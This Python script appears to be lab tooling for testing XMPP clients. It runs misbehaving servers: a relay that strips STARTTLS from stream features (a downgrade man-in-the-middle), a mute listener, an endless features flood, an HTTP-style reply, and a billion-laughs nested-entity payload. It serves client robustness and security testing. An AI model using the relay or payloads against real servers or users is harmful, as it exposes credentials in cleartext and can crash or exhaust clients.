#!/usr/bin/env python3
"""The lab's misbehaving servers: a STARTTLS-stripping attacker, and listeners that are not XMPP servers.

    lab-servers.py LISTEN_ADDRESS LISTEN_PORT UPSTREAM_ADDRESS UPSTREAM_PORT
        relays to the upstream server, removing <starttls .../> from the server's first stream features
        (the downgrade of RFC 7590 §3.1); everything after them passes untouched, TLS included.
    lab-servers.py --mute LISTEN_ADDRESS LISTEN_PORT
        accepts connections and never sends a byte.
    lab-servers.py --flood LISTEN_ADDRESS LISTEN_PORT
        opens a stream and its features, and sends features without end.
    lab-servers.py --garbage LISTEN_ADDRESS LISTEN_PORT
        answers like a web server.
    lab-servers.py --entities LISTEN_ADDRESS LISTEN_PORT
        sends a document type declaring nested entities (billion laughs) before the stream.
"""
import asyncio
import re
import sys

STARTTLS = re.compile(rb"<starttls[^>]*?(/>|>.*?</starttls>)", re.S)
END_OF_FEATURES = re.compile(rb"</(\w+:)?features>")


async def pipe(reader, writer, first_features=False):
    pending = b""
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            if first_features:
                pending += data
                if not END_OF_FEATURES.search(pending) and len(pending) < 65536:
                    continue
                data, pending, first_features = STARTTLS.sub(b"", pending, count=1), b"", False
            writer.write(data)
            await writer.drain()
    except (ConnectionError, asyncio.IncompleteReadError):
        pass
    finally:
        writer.close()


async def relay(client_reader, client_writer, upstream):
    try:
        server_reader, server_writer = await asyncio.open_connection(*upstream)
    except OSError:
        client_writer.close()
        return
    await asyncio.gather(
        pipe(client_reader, server_writer), pipe(server_reader, client_writer, first_features=True))


async def mute(reader, writer):
    await reader.read()  # until the client gives up
    writer.close()


HEADER = (b"<?xml version='1.0'?><stream:stream xmlns='jabber:client' "
          b"xmlns:stream='http://etherx.jabber.org/streams' id='x' from='lab.example' version='1.0'>")


async def flood(reader, writer):
    try:
        await reader.read(4096)
        writer.write(HEADER + b"<stream:features>")
        while True:
            writer.write(b"<feature xmlns='urn:example:flood'>" + b"x" * 4000 + b"</feature>")
            await writer.drain()
    except (ConnectionError, asyncio.IncompleteReadError):
        pass
    finally:
        writer.close()


async def answer(reader, writer, text):
    try:
        await reader.read(4096)
        writer.write(text)
        await writer.drain()
        await reader.read()
    except ConnectionError:
        pass
    finally:
        writer.close()


GARBAGE = b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
LAUGHS = (b"<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>"
          + b"".join(b"<!ENTITY lol%d '%s'>" % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b"]><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>&lol9;")


async def main(arguments):
    modes = {
        "--mute": mute,
        "--flood": flood,
        "--garbage": lambda r, w: answer(r, w, GARBAGE),
        "--entities": lambda r, w: answer(r, w, LAUGHS),
    }
    if arguments[0] in modes:
        server = await asyncio.start_server(modes[arguments[0]], arguments[1], int(arguments[2]))
    else:
        upstream = (arguments[2], int(arguments[3]))
        server = await asyncio.start_server(
            lambda r, w: relay(r, w, upstream), arguments[0], int(arguments[1]))
    async with server:
        await server.serve_forever()


if __name__ == "__main__":
    try:
        asyncio.run(main(sys.argv[1:]))
    except KeyboardInterrupt:
        pass
